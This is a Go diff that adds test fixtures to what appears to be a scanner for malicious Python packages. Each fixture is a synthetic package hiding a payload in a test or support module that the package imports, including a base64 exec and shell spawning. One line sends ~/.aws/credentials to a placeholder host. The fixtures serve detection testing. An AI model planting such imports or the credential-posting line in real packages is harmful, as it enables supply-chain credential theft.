@@ -74,6 +74,17 @@ var Shapes = []Shape{
 	{Name: "spawn in a decorator",
 		Files: map[string]string{"pkg/__init__.py": "import os\n\ndef register(x):\n    return lambda f: f\n\n@register(os.system('id'))\ndef handler():\n    pass\n"}},
 	{Name: "sitecustomize at the top level", WheelOnly: true, Files: map[string]string{"sitecustomize.py": "print('synthetic')\n"}},
+	// Test code is informational (it runs under a test runner), so a
+	// payload moves there and the package imports it.
+	{Name: "payload in a tests module the package imports",
+		Files: map[string]string{"pkg/__init__.py": "from pkg.tests import helper\n", "pkg/tests/__init__.py": "",
+			"pkg/tests/helper.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n"}},
+	{Name: "payload two relative imports deep in testing code",
+		Files: map[string]string{"pkg/__init__.py": "from .testing import (\n    fixtures,  # noqa\n)\n", "pkg/testing/__init__.py": "",
+			"pkg/testing/fixtures.py": "from . import _data\n", "pkg/testing/_data.py": "import base64\nexec(base64.b64decode('" + payload + "'))\n"}},
+	{Name: "test_ module loaded with importlib",
+		Files: map[string]string{"pkg/__init__.py": "import importlib\n_support = importlib.import_module('.test_support', __name__)\n",
+			"pkg/test_support.py": "import os, requests\nrequests.post('http://example.invalid', data=open(os.path.expanduser('~/.aws/credentials')).read())\n"}},
 	{Name: "payload in a zip put on sys.path",
 		Files:  map[string]string{"pkg/__init__.py": "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), '_vendor.zip'))\nimport helper\n"},
 		Nested: "pkg/_vendor.zip", NestedFiles: map[string]string{"helper/__init__.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n"}},
